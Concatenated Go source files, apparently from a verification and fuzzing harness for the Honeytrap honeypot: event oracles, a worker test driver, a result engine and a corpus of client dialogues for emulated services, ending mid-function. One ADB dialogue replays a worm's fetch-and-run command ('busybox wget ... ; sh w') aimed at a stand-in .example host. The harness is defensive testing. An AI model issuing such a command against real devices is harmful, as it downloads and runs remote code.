	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	for _, f := range sc.Faults {
		res.fault(f, 1)
	}
	c05Monitor(obs, conns, &res)
	if res.Verdict != "violation" && fileRead {
		c05FileChannel(obs, fileMust, fileLines, &res)
	}
	if res.Verdict != "violation" && sc.ParamStr("workload", "") == "dialogue" {
		// generator as oracle for the payload fields: where the grammar knows which bytes a command's event must
		// carry as payload (an HTTP body, a stored value, ...), the event found for that command carries exactly them
		for ai := range sc.Actors {
			a := &sc.Actors[ai]
			if a.Kind != "tcp" && a.Kind != "udp" {
				continue
			}
			_, maps := connEvents(obs, a.Src, c04Skip)
			if k, f, d := checkWants(a, maps); k == "event-field-wrong" && strings.HasPrefix(f, "payload") {
				res.Violate("payload-not-the-bytes-sent", sc.ParamStr("proto", "")+":"+f, d)
				break
			}
			res.probe("dialogue-payloads-compared", 1)
		}
	}
	if res.Verdict == "violation" {
		res.Site = strings.SplitN(sc.Class, "/", 2)[0] + ":" + res.Site
		for i := range res.All {
			res.All[i].Site = strings.SplitN(sc.Class, "/", 2)[0] + ":" + res.All[i].Site
		}
	}
	return res
}

// jsonCoerce mirrors encoding/json: every invalid UTF-8 byte becomes U+FFFD.
func jsonCoerce(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			b.WriteString("\ufffd")
		} else {
			b.WriteString(s[i : i+size])
		}
		i += size
	}
	return b.String()
}

// c05MergeCopy rebuilds the captured event, merges and copies a map that collides with every existing key
// (with values of another type and of the same type) and adds new keys, and compares with the reference
// semantics: MergeFrom keeps existing keys, CopyFrom overwrites.
func c05MergeCopy(m map[string]interface{}, res *Result) {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	data := map[string]interface{}{}
	for i, k := range keys {
		switch i % 4 {
		case 0:
			data[k] = "merged-" + k
		case 1:
			data[k] = 9999 + i
		case 2:
			data[k] = ""
		default:
			data[k] = []string{"x"}
		}
	}
	data["verif-new-key"] = "new"
	data["verif-new-int"] = 7
	same := func(a, b interface{}) bool { return reflect.DeepEqual(a, b) }
	cat := fmt.Sprint(m["category"])
	// merge
	ev := event.New(event.CopyFrom(m))
	event.Apply(ev, event.MergeFrom(data))
	got := event.ToMap(ev)
	for _, k := range keys {
		if !same(got[k], m[k]) {
			res.Violate("merge-overwrote-existing-key", cat, fmt.Sprintf("MergeFrom replaced existing key %q (%T %v) by %v", k, m[k], short(fmt.Sprint(m[k]), 60), short(fmt.Sprint(got[k]), 60)))
			return
		}
	}
	if !same(got["verif-new-key"], "new") || !same(got["verif-new-int"], 7) {
		res.Violate("merge-dropped-new-key", cat, "MergeFrom did not add a key the event lacked")
		return
	}
	// copy
	ev = event.New(event.CopyFrom(m))
	event.Apply(ev, event.CopyFrom(data))
	got = event.ToMap(ev)
	for k, v := range data {
		if !same(got[k], v) {
			res.Violate("copy-kept-existing-key", cat, fmt.Sprintf("CopyFrom did not overwrite key %q: holds %v, want %v", k, short(fmt.Sprint(got[k]), 60), v))
			return
		}
	}
	if len(got) != len(data)+boolInt(!hasKey(data, "date")) {
		res.Violate("copy-changed-key-set", cat, fmt.Sprintf("after CopyFrom the event has %d keys, want %d", len(got), len(data)))
		return
	}
	res.probe("merge-copy-checked", 1)
}

func hasKey(m map[string]interface{}, k string) bool { _, ok := m[k]; return ok }
func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// c05FileChannel: the lines the real file channel wrote are, as a multiset, the events as they were when sent.
func c05FileChannel(obs *Obs, must int, lines []string, res *Result) {
	var want []string
	late := map[string]int{} // sent during the final wait: may be missing from the file
	for i, e := range obs.Events {
		if e.Channel != "cap" {
			continue
		}
		if e.J == "" {
			return // (an event that does not serialise is the monitor's finding)
		}
		want = append(want, e.J)
		if i >= must {
			late[e.J]++
		}
	}
	if len(lines) == 1 && lines[0] == "" {
		lines = nil
	}
	got := append([]string(nil), lines...)
	sort.Strings(want)
	sort.Strings(got)
	i, j := 0, 0
	var onlyWant, onlyGot []string
	for i < len(want) || j < len(got) {
		switch {
		case j >= len(got) || i < len(want) && want[i] < got[j]:
			if late[want[i]] > 0 {
				late[want[i]]--
				want = append(want[:i:i], want[i+1:]...)
				continue
			}
			onlyWant = append(onlyWant, want[i])
			i++
		case i >= len(want) || got[j] < want[i]:
			onlyGot = append(onlyGot, got[j])
			j++
		default:
			i++
			j++
		}
	}
	res.probe("file-channel-lines-compared", len(got))
	if len(onlyWant) == 0 && len(onlyGot) == 0 {
		return
	}
	if len(got) != len(want) {
		ex := ""
		if len(onlyWant) > 0 {
			ex = onlyWant[0]
		} else {
			ex = onlyGot[0]
		}
		res.Violate("file-channel-line-count", "file-channel", fmt.Sprintf("%d events were sent, the file channel wrote %d lines; first without partner: %s", len(want), len(got), short(ex, 400)))
		return
	}
	// same count, different content: name the first key that differs between an orphan line and the closest event
	var gm, wm map[string]interface{}
	if json.Unmarshal([]byte(onlyGot[0]), &gm) != nil {
		res.Violate("file-channel-line-not-json", "file-channel", short(onlyGot[0], 400))
		return
	}
	best, bestN := "", -1
	for _, w := range onlyWant {
		var m map[string]interface{}
		json.Unmarshal([]byte(w), &m)
		n := 0
		for k, v := range m {
			if fmt.Sprint(gm[k]) == fmt.Sprint(v) {
				n++
			}
		}
		if n > bestN {
			best, bestN, wm = w, n, m
		}
	}
	key := ""
	var keys []string
	for k := range wm {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if _, ok := gm[k]; !ok {
			res.Violate("file-channel-key-missing", "file-channel:"+fmt.Sprint(wm["category"]), fmt.Sprintf("key %q of the event is not in the line the file channel wrote: %s", k, short(onlyGot[0], 400)))
			return
		}
		if key == "" && fmt.Sprint(gm[k]) != fmt.Sprint(wm[k]) {
			key = k
		}
	}
	res.Violate("event-changed-after-it-was-sent", "file-channel:"+fmt.Sprint(wm["category"])+":"+key, fmt.Sprintf("key %q: the event carried %s when it was sent, the file channel wrote %s\nsent:    %s\nwritten: %s", key, short(fmt.Sprint(wm[key]), 120), short(fmt.Sprint(gm[key]), 120), short(best, 300), short(onlyGot[0], 300)))
}
