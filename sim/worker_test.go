package htsim

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"regexp"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"testing"

	"github.com/honeytrap/honeytrap/server"
)

// TestWorker is the worker process entry (DESIGN §2.1).  Work description comes from the
// environment; results go, one JSON object per line, to the file named by VERIF_OUT.
//
//	VERIF_PROP   property id (C04, ...)
//	VERIF_TIER   quick | thorough
//	VERIF_SEEDS  "<base>:<from>:<to>"  run indices [from,to) derived from base seed
//	VERIF_SCENARIO  path of a scenario/replay file to run instead of generating
//	VERIF_EMIT   when set with VERIF_SEEDS: only print generated scenarios (no run)
func TestWorker(t *testing.T) {
	prop := os.Getenv("VERIF_PROP")
	if prop == "" {
		t.Skip("not a worker invocation")
	}
	outPath := os.Getenv("VERIF_OUT")
	out := os.Stdout
	if outPath != "" {
		f, err := os.OpenFile(outPath, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0644)
		if err != nil {
			t.Fatalf("open out: %v", err)
		}
		defer f.Close()
		out = f
	}
	// honeytrap prints banners to stdout; keep them away from the terminal
	if devnull, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0); err == nil {
		os.Stdout = devnull
	}
	runtime.GOMAXPROCS(1)
	debug.SetMaxStack(256 << 20)
	emit := func(v interface{}) {
		b, _ := json.Marshal(v)
		out.Write(append(b, '\n'))
	}
	if prop == "C18BOOT" {
		c18Boot(t, emit)
		return
	}
	eng, ok := engines[prop]
	if !ok {
		emit(map[string]interface{}{"t": "infra", "msg": "unknown property " + prop})
		t.Fatalf("unknown property %s", prop)
	}
	tier := os.Getenv("VERIF_TIER")
	if tier == "" {
		tier = "quick"
	}
	prepareProcess(t)
	if p := os.Getenv("VERIF_SCENARIO"); p != "" {
		sc, err := LoadScenario(p)
		if err != nil {
			emit(map[string]interface{}{"t": "infra", "msg": err.Error()})
			t.Fatalf("load scenario: %v", err)
		}
		emit(map[string]interface{}{"t": "begin", "seed": sc.Seed, "idx": 0})
		for _, pre := range sc.Prefix {
			pre.Prefix = nil
			eng.Run(t, pre)
		}
		sc.Prefix = nil
		newRaceReports() // reports of the prefix do not belong to this scenario
		firstObs = nil
		res := eng.Run(t, sc)
		if os.Getenv("VERIF_TRACE") != "" && res.Sample == nil && firstObs != nil {
			res.Sample = dumpObs(firstObs, nil)
		}
		attachRaces(&res)
		res.T = "end"
		res.Seed = sc.Seed
		emit(res)
		return
	}
	spec := strings.Split(os.Getenv("VERIF_SEEDS"), ":")
	if len(spec) != 3 {
		t.Fatalf("VERIF_SEEDS must be base:from:to")
	}
	base, _ := strconv.ParseUint(spec[0], 10, 64)
	from, _ := strconv.Atoi(spec[1])
	to, _ := strconv.Atoi(spec[2])
	stride := 1
	if s := os.Getenv("VERIF_STRIDE"); s != "" {
		stride, _ = strconv.Atoi(s)
	}
	sampleEvery := 0
	if s := os.Getenv("VERIF_SAMPLE_EVERY"); s != "" {
		sampleEvery, _ = strconv.Atoi(s)
	}
	// a worker retires itself after a number of runs or when its memory has grown (every run leaves the frozen
	// goroutines of its bubble behind): the driver starts a fresh process at the index it names
	maxRuns := 1500
	if s := os.Getenv("VERIF_MAX_RUNS"); s != "" {
		maxRuns, _ = strconv.Atoi(s)
	}
	done := 0
	for idx := from; idx < to; idx += stride {
		if os.Getenv("VERIF_EMIT") == "" && done > 0 && (done >= maxRuns || done%20 == 0 && rssMB() > 1400) {
			emit(map[string]interface{}{"t": "recycle", "next": idx})
			return
		}
		done++
		seed := deriveSeed(base, prop, idx)
		sc := eng.Gen(seed, idx, tier)
		if sc == nil {
			continue
		}
		sc.Seed = seed
		sc.Prop = prop
		// the scenario that runs is exactly what a replay file would contain (JSON round trip)
		sc = sc.Clone()
		if os.Getenv("VERIF_EMIT") != "" {
			emit(map[string]interface{}{"t": "scenario", "idx": idx, "sc": sc})
			continue
		}
		emit(map[string]interface{}{"t": "begin", "seed": seed, "idx": idx, "class": sc.Class})
		firstObs = nil
		res := eng.Run(t, sc)
		if os.Getenv("VERIF_TRACE") != "" && res.Sample == nil && firstObs != nil {
			res.Sample = dumpObs(firstObs, nil)
		}
		attachRaces(&res)
		res.T = "end"
		res.Seed = seed
		res.Idx = idx
		res.Class = sc.Class
		if res.Verdict != "ok" && res.Scenario == nil {
			res.Scenario = sc
		}
		if sampleEvery > 0 && idx%sampleEvery == 0 && res.Sample == nil {
			res.Sample = sc
		}
		emit(res)
	}
	emit(map[string]interface{}{"t": "done"})
}

// TestMakeTemplate creates the data-directory template (token, keys, certificates) once.
func TestMakeTemplate(t *testing.T) {
	out := os.Getenv("VERIF_TEMPLATE_OUT")
	if out == "" {
		t.Skip("not a template invocation")
	}
	os.Unsetenv("VERIF_DATADIR_TEMPLATE")
	installSeams()
	opt, err := server.WithDataDir(out)
	if err != nil {
		t.Fatal(err)
	}
	h, err := server.New(opt, server.WithToken())
	if err != nil || h == nil {
		t.Fatalf("server.New: %v", err)
	}
	prewarmStorage()
	agentPrewarm()
}

func deriveSeed(base uint64, prop string, idx int) uint64 {
	r := NewRng(base, fmt.Sprintf("%s/%d", prop, idx))
	return r.Uint64() >> 1
}

// ---- race tier (C01): reports of the race detector, attributed to the scenario that just ran ----

var raceLogOff int64

// raceLogPath is the file the race runtime appends its reports to (GORACE log_path=<prefix> -> <prefix>.<pid>).
func raceLogPath() string {
	for _, f := range strings.Fields(os.Getenv("GORACE")) {
		if strings.HasPrefix(f, "log_path=") {
			return fmt.Sprintf("%s.%d", strings.TrimPrefix(f, "log_path="), os.Getpid())
		}
	}
	return ""
}

type raceReport struct {
	MapVsMap bool   // both accesses are runtime map operations, at least one a write
	Site     string // first honeytrap frame of the first access
	Text     string
}

var htFrameRe = regexp.MustCompile(`(?m)^\s+github\.com/honeytrap/honeytrap/(\S+)\(\)\s*$`)

// newRaceReports returns the reports written since the last call.
func newRaceReports() []raceReport {
	p := raceLogPath()
	if p == "" {
		return nil
	}
	f, err := os.Open(p)
	if err != nil {
		return nil
	}
	defer f.Close()
	f.Seek(raceLogOff, 0)
	b, _ := io.ReadAll(f)
	raceLogOff += int64(len(b))
	var out []raceReport
	for _, blk := range strings.Split(string(b), "==================") {
		if !strings.Contains(blk, "WARNING: DATA RACE") {
			continue
		}
		// the two access stacks come first: "<Write|Read> at ... by goroutine N:" and "Previous <write|read> at ..."
		var tops []string
		var kinds []string
		lines := strings.Split(blk, "\n")
		for i, l := range lines {
			t := strings.TrimSpace(l)
			if (strings.HasPrefix(t, "Write at") || strings.HasPrefix(t, "Read at") || strings.HasPrefix(t, "Previous write at") || strings.HasPrefix(t, "Previous read at")) && i+1 < len(lines) {
				kinds = append(kinds, strings.ToLower(strings.Fields(strings.TrimPrefix(t, "Previous "))[0]))
				tops = append(tops, strings.TrimSpace(lines[i+1]))
			}
		}
		r := raceReport{Text: blk}
		if m := htFrameRe.FindStringSubmatch(blk); m != nil {
			r.Site = m[1]
		}
		if len(tops) == 2 {
			isMap := func(s string) bool {
				return strings.HasPrefix(s, "runtime.map") || strings.HasPrefix(s, "internal/runtime/maps.") || strings.HasPrefix(s, "reflect.map") || strings.HasPrefix(s, "reflect.(*MapIter)")
			}
			r.MapVsMap = isMap(tops[0]) && isMap(tops[1]) && (kinds[0] == "write" || kinds[1] == "write")
		}
		out = append(out, r)
	}
	return out
}

// attachRaces turns map-vs-map races reported during the scenario into violations (the precondition of the
// runtime's fatal "concurrent map writes"); other races are only counted.
func attachRaces(res *Result) {
	if os.Getenv("VERIF_RACE") == "" {
		return
	}
	for _, r := range newRaceReports() {
		if r.MapVsMap {
			res.probe("map-races", 1)
			txt := r.Text
			if len(txt) > 1400 {
				txt = txt[:1400]
			}
			res.Violate("concurrent-map-access", r.Site, "two handlers released in the same step access one map without synchronisation (in production: fatal error: concurrent map writes / read and map write):"+txt)
		} else {
			res.probe("other-races", 1)
		}
	}
}

// rssMB reads the resident set size of this process.
func rssMB() int {
	b, err := os.ReadFile("/proc/self/statm")
	if err != nil {
		return 0
	}
	f := strings.Fields(string(b))
	if len(f) < 2 {
		return 0
	}
	pages, _ := strconv.Atoi(f[1])
	return pages * os.Getpagesize() >> 20
}
