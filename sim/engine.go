package htsim

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"regexp"
	"sort"
	"strings"
	"testing"
)

// Result is what a worker reports for one scenario.
type Result struct {
	T        string         `json:"t"`
	Seed     uint64         `json:"seed"`
	Idx      int            `json:"idx"`
	Class    string         `json:"class,omitempty"`
	Verdict  string         `json:"verdict"` // ok | violation
	Kind     string         `json:"kind,omitempty"`
	Site     string         `json:"site,omitempty"` // component / service / field (part of the fingerprint)
	Detail   string         `json:"detail,omitempty"`
	Known    string         `json:"known,omitempty"` // id of the known finding this matches (trigger predicate evaluated by the engine)
	Digest   string         `json:"digest,omitempty"`
	Steps    int            `json:"steps,omitempty"`
	SimMs    int64          `json:"sim_ms,omitempty"`
	Nontriv  bool           `json:"nontrivial,omitempty"`
	Faults   map[string]int `json:"faults,omitempty"`
	Probes   map[string]int `json:"probes,omitempty"`
	Runs     int            `json:"runs,omitempty"` // simulated executions this scenario needed (metamorphic pairs etc.)
	Scenario *Scenario      `json:"scenario,omitempty"`
	Sample   interface{}    `json:"sample,omitempty"`
	// All lists every violation found in this scenario (engines that judge many independent
	// sub-cases per scenario keep going after the first one); Kind/Site/Detail repeat the first.
	All []Violation `json:"all,omitempty"`
}

type Violation struct {
	Kind   string `json:"kind"`
	Site   string `json:"site"`
	Detail string `json:"detail"`
}

func okResult() Result {
	return Result{Verdict: "ok", Faults: map[string]int{}, Probes: map[string]int{}, Runs: 1}
}

func (r *Result) Violate(kind, site, detail string) {
	if len(detail) > 1500 {
		detail = detail[:1500] + "..."
	}
	for _, v := range r.All {
		if v.Kind == kind && v.Site == site {
			return // one per fingerprint
		}
	}
	if len(r.All) < 16 {
		r.All = append(r.All, Violation{kind, site, detail})
	}
	if r.Verdict == "violation" {
		return // Kind/Site/Detail keep the first
	}
	r.Verdict = "violation"
	r.Kind = kind
	r.Site = site
	r.Detail = detail
}

func (r *Result) probe(name string, n int) {
	if n != 0 {
		r.Probes[name] += n
	}
}
func (r *Result) fault(name string, n int) {
	if n != 0 {
		r.Faults[name] += n
	}
}

// Engine is one property's generator + oracle.
type Engine struct {
	Gen func(seed uint64, idx int, tier string) *Scenario
	Run func(t *testing.T, sc *Scenario) Result
}

var engines = map[string]*Engine{}

// digest of a full observation trace (for the determinism self-test and the distinct-run measure)
func traceDigest(obs *Obs, skipKeys map[string]bool) string {
	// per-run identifiers (xid, random session ids, the token) never take part
	sk := map[string]bool{}
	for k := range idKeys {
		sk[k] = true
	}
	for k := range skipKeys {
		sk[k] = true
	}
	skipKeys = sk
	h := sha256.New()
	for _, l := range obs.Trace {
		h.Write([]byte(l))
		h.Write([]byte{'\n'})
	}
	// events emitted by different goroutines within one step have no defined order: hash them sorted per step
	var evl []string
	for _, e := range obs.Events {
		if isHeartbeat(e.M) {
			continue
		}
		evl = append(evl, fmt.Sprintf("E%06d %s\n", e.Step, EventLine(e.M, skipKeys)))
	}
	sort.Strings(evl)
	for _, l := range evl {
		h.Write([]byte(l))
	}
	for i, c := range obs.Conns {
		// replies may list things in Go map iteration order (FTP FEAT): hash the sorted lines
		recv := c.Recv
		if obs.TmpDir != "" {
			recv = []byte(tmpRootRe.ReplaceAllString(strings.ReplaceAll(string(recv), obs.TmpDir, "@TMP@"), "@ROOT@"))
		}
		fmt.Fprintf(h, "C%d %x closed=%v refused=%v\n", i, canonLines(recv), c.ServerClosed, c.Refused)
		// replies to datagrams released in the same step come from different goroutines: hash them sorted
		var dl []string
		for _, d := range c.Dgrams {
			dl = append(dl, fmt.Sprintf("D%d %x\n", i, d))
		}
		sort.Strings(dl)
		for _, l := range dl {
			h.Write([]byte(l))
		}
	}
	// kernel log lines of one step come from goroutines whose wake-up order is the runtime's: sorted
	nl := append([]string(nil), obs.NetLog...)
	sort.Strings(nl)
	for _, l := range nl {
		h.Write([]byte(l))
		h.Write([]byte{'\n'})
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

var tmpRootRe = regexp.MustCompile(`@TMP@/ftp/[0-9a-f]+`)

// sessionKeys are per-run identifiers (xid based) masked in comparisons.
var idKeys = map[string]bool{
	"ftp.sessionid": true, "smtp.sessionid": true, "telnet.sessionid": true, "ssh.sessionid": true,
	"sessionid": true, "session-id": true, "token": true, "http.sessionid": true, "message": true,
}

func sortedKeys(m map[string]int) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func short(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}

func joinLines(xs []string) string { return strings.Join(xs, "\n") }

func dumpObs(obs *Obs, skip map[string]bool) []string {
	var out []string
	out = append(out, obs.Trace...)
	for _, e := range obs.Events {
		if isHeartbeat(e.M) {
			continue
		}
		out = append(out, fmt.Sprintf("E%d %s", e.Step, EventLine(e.M, skip)))
	}
	for i, c := range obs.Conns {
		out = append(out, fmt.Sprintf("C%d %q closed=%v refused=%v", i, canonLines(c.Recv), c.ServerClosed, c.Refused))
		for _, ch := range c.Chunks {
			out = append(out, fmt.Sprintf("  chunk step=%d len=%d", ch.Step, len(ch.Data)))
		}
	}
	out = append(out, obs.NetLog...)
	return out
}

// canonLines returns the transcript with its lines sorted (order-insensitive canonical form).
func canonLines(b []byte) string {
	ls := strings.Split(string(b), "\n")
	sort.Strings(ls)
	return strings.Join(ls, "\n")
}
