package htsim

import (
	"encoding/binary"
	"fmt"
	"sort"
	"strings"
)

// Prototype inputs for crash exploration: per service a few well-formed client dialogues that drive
// the handler deep into its parser / state machine.  A mutation engine truncates / mutates them.
//
// binDialogue is one complete dialogue: the client messages in sending order (for UDP services one
// element per datagram, for TCP services one element per protocol message; concatenating the
// elements of a TCP dialogue gives the client byte stream).
type binDialogue = [][]byte

// corpusBin maps a service type to a function producing 2-6 prototype dialogues.
// Randomness (cookies, ids, names) comes only from r.
var corpusBin = map[string]func(r *Rng) []binDialogue{
	"adb":           corpusADB,
	"vnc":           corpusVNC,
	"ssh-auth":      corpusSSH,
	"ssh-simulator": corpusSSH,
	"https":         corpusHTTPS,
	"ipp":           corpusIPP,
	"cwmp":          corpusCWMP,
	"docker":        corpusDocker,
	"eos":           corpusEOS,
	"ethereum":      corpusEthereum,
	"elasticsearch": corpusElasticsearch,
	"dns":           corpusDNS,
	"tftp":          corpusTFTP,
	"snmp":          corpusSNMP,
	"ntp":           corpusNTP,
	"counterstrike": corpusCounterStrike,
}

// corpusFlat returns, per prototype dialogue of the service, the concatenated client byte stream.
func corpusFlat(svc string, r *Rng) [][]byte {
	gen := corpusBin[svc]
	if gen == nil {
		return nil
	}
	var out [][]byte
	for _, d := range gen(r) {
		var s []byte
		for _, m := range d {
			s = append(s, m...)
		}
		out = append(out, s)
	}
	return out
}

// corpusSanity calls every generator and checks that the output is non-empty and deterministic.
func corpusSanity() error {
	names := make([]string, 0, len(corpusBin))
	for n := range corpusBin {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		ds := corpusBin[n](NewRng(1, "x"))
		if len(ds) < 2 || len(ds) > 6 {
			return fmt.Errorf("corpus %s: %d dialogues (want 2..6)", n, len(ds))
		}
		again := corpusBin[n](NewRng(1, "x"))
		for i, d := range ds {
			if len(d) == 0 {
				return fmt.Errorf("corpus %s: dialogue %d is empty", n, i)
			}
			for j, m := range d {
				if len(m) == 0 {
					return fmt.Errorf("corpus %s: dialogue %d message %d is empty", n, i, j)
				}
				if i >= len(again) || j >= len(again[i]) || string(again[i][j]) != string(m) {
					return fmt.Errorf("corpus %s: dialogue %d message %d is not deterministic", n, i, j)
				}
			}
		}
	}
	return nil
}

// ---------------------------------------------------------------------------------------------
// helpers (prefix cb)

func cbCat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}
func cbBE16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }
func cbBE32(v int) []byte { return []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)} }
func cbLE32(v uint32) []byte {
	b := make([]byte, 4)
	binary.LittleEndian.PutUint32(b, v)
	return b
}

// cbTLV: BER element with a definite length (short form below 128, long form otherwise).
func cbTLV(tag byte, parts ...[]byte) []byte {
	body := cbCat(parts...)
	n := len(body)
	switch {
	case n < 128:
		return cbCat([]byte{tag, byte(n)}, body)
	case n < 256:
		return cbCat([]byte{tag, 0x81, byte(n)}, body)
	default:
		return cbCat([]byte{tag, 0x82, byte(n >> 8), byte(n)}, body)
	}
}

// cbHTTP renders one HTTP/1.1 request; a Content-Length header is added when body != nil.
func cbHTTP(method, target string, hdr []string, body []byte) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, target)
	for _, h := range hdr {
		b.WriteString(h + "\r\n")
	}
	if body != nil {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n")
	return append([]byte(b.String()), body...)
}

// ---------------------------------------------------------------------------------------------
// adb (services/adb.go): 24-byte header (command, arg0, arg1, data length, data checksum, magic) + data.
// The handler reads one packet per Read: CNXN first, then OPEN / WRTE / OKAY / CLSE / other.

func cbADB(cmd string, arg0, arg1 uint32, data []byte) []byte {
	var sum uint32
	for _, c := range data {
		sum += uint32(c)
	}
	magic := make([]byte, 4)
	for i := 0; i < 4; i++ {
		magic[i] = cmd[i] ^ 0xff
	}
	return cbCat([]byte(cmd), cbLE32(arg0), cbLE32(arg1), cbLE32(uint32(len(data))), cbLE32(sum), magic, data)
}

func corpusADB(r *Rng) []binDialogue {
	local := uint32(r.Range(1, 1<<20))
	cnxn := cbADB("CNXN", 0x01000000, 4096, []byte("host::\x00"))
	cnxnFeat := cbADB("CNXN", 0x01000001, 256*1024, []byte("host::features=cmd,shell_v2,stat_v2,abb;"+r.word(0, 12)+"\x00"))
	url := "http://" + r.word(3, 8) + ".example/" + r.word(1, 6)
	return []binDialogue{
		// shell session: open a shell, type a command, acknowledge, close
		{cnxn, cbADB("OPEN", local, 0, []byte("shell:\x00")),
			cbADB("WRTE", local, 9, []byte("ls -la /data/local/tmp\r")), cbADB("OKAY", local, 9, nil),
			cbADB("CLSE", local, 9, nil)},
		// one-shot shell command in the OPEN destination (what the ADB.Miner worm sends)
		{cnxn, cbADB("OPEN", local, 0, []byte("shell:cd /data/local/tmp; busybox wget "+url+" -O -> w; sh w; rm w\x00")),
			cbADB("OKAY", local, 9, nil), cbADB("CLSE", local, 9, nil)},
		// a command typed in several WRTE packets (no CR until the last one), an unknown command in between
		{cnxnFeat, cbADB("OPEN", local, 0, []byte("shell:\x00")),
			cbADB("WRTE", local, 9, []byte("ec")), cbADB("WRTE", local, 9, []byte("ho "+r.word(1, 10))),
			cbADB("SYNC", 1, 0, nil), cbADB("WRTE", local, 9, []byte("\r")),
			cbADB("WRTE", local, 9, []byte("id\rwhoami\r")), cbADB("CLSE", local, 9, nil)},
		// modern client: CNXN, then AUTH (unknown to the handler) and a sync: service
		{cnxnFeat, cbADB("AUTH", 3, 0, r.Bytes(64)), cbADB("OPEN", local+1, 0, []byte("sync:\x00")),
			cbADB("WRTE", local+1, 9, cbCat([]byte("STAT"), cbLE32(12), []byte("/sdcard/x.sh"))), cbADB("CLSE", local+1, 9, nil)},
	}
}

// ---------------------------------------------------------------------------------------------
// vnc (services/vnc/rfb.go): RFB handshake, then client messages.

func cbPixelFormat(bpp, depth, bigEndian, trueColour byte, rmax, gmax, bmax int, rs, gs, bs byte) []byte {
	return cbCat([]byte{0, 0, 0, 0, bpp, depth, bigEndian, trueColour}, cbBE16(rmax), cbBE16(gmax), cbBE16(bmax), []byte{rs, gs, bs, 0, 0, 0})
}
func cbSetEncodings(encs ...int32) []byte {
	out := cbCat([]byte{2, 0}, cbBE16(len(encs)))
	for _, e := range encs {
		out = append(out, cbBE32(int(uint32(e)))...)
	}
	return out
}
func cbFBUpdateReq(incremental byte, x, y, w, h int) []byte {
	return cbCat([]byte{3, incremental}, cbBE16(x), cbBE16(y), cbBE16(w), cbBE16(h))
}
func cbKeyEvent(down byte, key int) []byte { return cbCat([]byte{4, down, 0, 0}, cbBE32(key)) }
func cbPointerEvent(mask byte, x, y int) []byte {
	return cbCat([]byte{5, mask}, cbBE16(x), cbBE16(y))
}
func cbCutText(s string) []byte { return cbCat([]byte{6, 0, 0, 0}, cbBE32(len(s)), []byte(s)) }

func corpusVNC(r *Rng) []binDialogue {
	v8 := []byte("RFB 003.008\n")
	none := []byte{1}
	shared := []byte{1}
	x, y := r.Range(0, 799), r.Range(0, 599)
	trueColour16 := cbPixelFormat(16, 16, 0, 1, 31, 31, 31, 10, 5, 0) // the server's own format ("Screens thousands" fast path)
	trueColour32 := cbPixelFormat(32, 24, 0, 1, 255, 255, 255, 16, 8, 0)
	colourMap8 := cbPixelFormat(8, 8, 0, 0, 0, 0, 0, 0, 0, 0) // NON-true-colour (colour map)
	return []binDialogue{
		// full RFB 3.8 session, true colour 32 bpp (generic push path), every client message type; ClientCutText last
		// (the server has no handler for it)
		{v8, none, shared, trueColour32, cbSetEncodings(0, 1, 2, 5, 16, -239, -223), cbFBUpdateReq(0, 0, 0, 800, 600),
			cbKeyEvent(1, 0xff0d), cbKeyEvent(0, 0xff0d), cbPointerEvent(1, x, y), cbPointerEvent(0, x, y),
			cbFBUpdateReq(1, 0, 0, 800, 600), cbCutText("clip-" + r.word(0, 20))},
		// server-native 16 bpp format, full then incremental update requests, typing
		{v8, none, []byte{0}, trueColour16, cbSetEncodings(1, 0), cbFBUpdateReq(0, 0, 0, 1024, 768), cbFBUpdateReq(1, x, y, 64, 64),
			cbKeyEvent(1, 'a'+r.Intn(26)), cbKeyEvent(0, 'a'+r.Intn(26)), cbPointerEvent(4, x, y)},
		// NON-true-colour pixel format followed by a full (non incremental) update request
		{v8, none, shared, colourMap8, cbSetEncodings(0), cbFBUpdateReq(0, 0, 0, 640, 480), cbKeyEvent(1, 0xffe3), cbPointerEvent(0, 1, 1)},
		// NON-true-colour, big endian 16 bpp, only incremental requests, then a full one
		{v8, none, shared, cbPixelFormat(16, 8, 1, 0, 7, 7, 3, 0, 3, 6), cbFBUpdateReq(1, 0, 0, 10, 10), cbFBUpdateReq(0, 0, 0, 10, 10), cbCutText("x")},
		// RFB 3.3 client (no security type choice), 24 bpp true colour format the generic path cannot encode
		{[]byte("RFB 003.003\n"), shared, cbPixelFormat(24, 24, 1, 1, 255, 255, 255, 16, 8, 0), cbSetEncodings(), cbFBUpdateReq(0, 0, 0, 1, 1), cbPointerEvent(0, 0, 0)},
		// RFB 3.7 client, true colour with unusual maxima, many encodings
		{[]byte("RFB 003.007\n"), none, shared, cbPixelFormat(32, 24, 1, 1, 1023, 1023, 1023, 20, 10, 0),
			cbSetEncodings(16, 15, 9, 8, 7, 6, 5, 2, 1, 0, -314, -313, -308, -307, -260, -247, -240, -239, -224, -223),
			cbFBUpdateReq(0, 0, 0, 0xffff, 0xffff), cbKeyEvent(1, 0xffffffff&0x7fffffff)},
	}
}

// ---------------------------------------------------------------------------------------------
// ssh-auth / ssh-simulator (golang.org/x/crypto/ssh server): only the plaintext prefix can be scripted:
// identification line, binary packets up to and including NEWKEYS.

func cbSSHPacket(r *Rng, payload []byte) []byte {
	pad := 8 - (5+len(payload))%8
	if pad < 4 {
		pad += 8
	}
